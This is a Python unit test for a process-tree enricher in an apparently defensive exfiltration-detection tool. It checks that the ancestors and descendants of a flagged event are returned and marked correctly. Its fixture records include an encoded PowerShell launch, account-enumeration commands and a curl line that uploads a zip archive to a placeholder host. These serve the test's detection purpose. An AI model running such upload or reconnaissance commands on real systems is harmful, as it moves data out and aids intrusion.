"""The tree of processes around the evidence, from the starts on its host."""

import asyncio
from datetime import timedelta
from pathlib import Path

from exfilwatch_playbooks.enrichment.enrichers.processes import Processes

from .made import START, make, means, process, subject_of, written


def guid(number: int) -> str:
    return f"{{00000000-0000-0000-0000-{number:012}}}"


def test_ancestors_and_descendants_with_the_evidence_marked(tmp_path: Path):
    def start(number: int, parent: int, line: str, minutes: float, host: str = "WS1"):
        more = {
            "ProcessGuid": guid(number),
            "ParentProcessGuid": guid(parent),
            "ProcessId": number,
            "ParentProcessId": parent,
        }
        return process(START + timedelta(minutes=minutes), host, "CORP\\anna", line, **more)

    records = [
        start(10, 1, "powershell -enc x", -5),
        start(11, 10, "curl -T a.zip http://x.test/", 0),
        start(12, 10, "whoami", 1),
        start(13, 12, "net user", 2),
        start(14, 2, "notepad", 0),
        start(15, 10, "elsewhere", 0, host="WS2"),
        start(16, 10, "too-late", 600),
    ]
    finding = make("a", ProcessGuid=guid(11), ParentProcessGuid=guid(10), ProcessId=11, ParentProcessId=10)
    source = written(tmp_path / "a.jsonl", records)

    async def ask():
        return await Processes("processes", Processes.Settings(), means(None, source)).survey(subject_of(finding))

    said = asyncio.run(ask())
    shown = [(step.depth, step.command_line, step.evidence) for step in said.processes if step.command_line]
    top = shown[0][0]
    assert [(depth - top, line, evidence) for depth, line, evidence in shown] == [
        (0, "powershell -enc x", False),
        (1, "curl -T a.zip http://x.test/", True),
        (1, "whoami", False),
        (2, "net user", False),
    ]
